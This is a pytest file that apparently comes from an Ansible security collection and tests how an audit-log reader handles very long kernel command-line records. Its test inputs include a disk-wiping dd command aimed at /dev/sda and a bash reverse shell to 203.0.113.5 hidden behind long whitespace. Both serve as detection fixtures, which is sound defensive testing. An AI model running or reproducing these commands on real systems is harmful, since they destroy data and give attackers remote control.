# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Command lines of any length that the kernel takes: what is at their end is read, and what is not read is counted."""

from __future__ import annotations

import typing as t

import pytest
from ansible_collections.bulwark.servers.plugins.module_utils.audit.events.reader import Reader
from ansible_collections.bulwark.servers.plugins.module_utils.audit_records import events, line_forms

from tests.content.audit import harness

_STAMP = "msg=audit(1780000000.100:7)"
# The kernel cuts long arguments, and the records of many, at about this many characters.
_PIECE = 7_000


def records(*arguments: str) -> str:
    """Return an execution as the kernel records it: blanks are in hexadecimal, long arguments in pieces."""
    lines, line = [], f"argc={len(arguments)}"
    for place, argument in enumerate(arguments):
        value = argument.encode().hex().upper() if " " in argument else f'"{argument}"'
        if len(value) > _PIECE:
            pieces = [value[start : start + _PIECE] for start in range(0, len(value), _PIECE)]
            lines += [line] if line else []
            lines += [f"a{place}_len={len(value)} a{place}[0]={pieces[0]}"]
            lines += [f"a{place}[{number}]={piece}" for number, piece in enumerate(pieces) if number]
            line = ""
        elif len(line) + len(value) > _PIECE:
            lines.append(line)
            line = f"a{place}={value}"
        else:
            line += f" a{place}={value}".lstrip("" if line else " ")
    lines += [line] if line else []
    return (
        f"type=SYSCALL {_STAMP}: arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=8 items=1 ppid=800 "
        "pid=900 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 "
        f'comm="x" exe="/usr/bin/{arguments[0]}" key="bulwark-execution"\n'
        + "".join(f"type=EXECVE {_STAMP}: {line}\n" for line in lines)
        + f'type=CWD {_STAMP}: cwd="/"\ntype=PROCTITLE {_STAMP}: proctitle="x"\n'
    )


def read(log: str) -> tuple[Reader, set[str]]:
    reader = Reader(harness.rules().payload, {})
    reader.read(log.encode())
    reader.finish(1_780_001_000)
    detections: list[dict[str, t.Any]] = reader.tally.detections(100)[0]
    return reader, {one["alert"] for one in detections}


@pytest.mark.parametrize(
    ("arguments", "alert"),
    [
        (("dd", *["bs=1048576"] * 14_000, "if=/dev/zero", "of=/dev/sda"), "disk_wiped"),
        (("bash", "-c", " " * 130_000 + "bash -i >& /dev/tcp/203.0.113.5/443 0>&1"), "reverse_shell"),
        (("dd", *["bs=1048576"] * 150_000, "if=/dev/zero", "of=/dev/sda"), "disk_wiped"),
    ],
    ids=["many arguments", "many blanks", "as many as fit"],
)
def test_what_is_at_the_end_of_a_command_line_is_read(arguments: tuple[str, ...], alert: str) -> None:
    reader, alerts = read(records(*arguments))
    assert alert in alerts
    assert not reader.damaged


def test_what_is_longer_than_any_event_is_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(events, "MOST_EVENT_BYTES", 50_000)
    lines = records("true", *["x" * 100] * 2_000).splitlines(keepends=True)
    # Its records are between those of another one, so that they wait for each other.
    other = "type=USER_CMD msg=audit(1780000000.200:8): pid=1 uid=0 auid=0 ses=1 msg='cmd=\"x\" res=success'\n"
    reader, _alerts = read(other.join(lines))
    lost, _events = reader.unread.take()
    assert reader.damaged
    assert set(lost) == {line_forms.TOO_LONG}
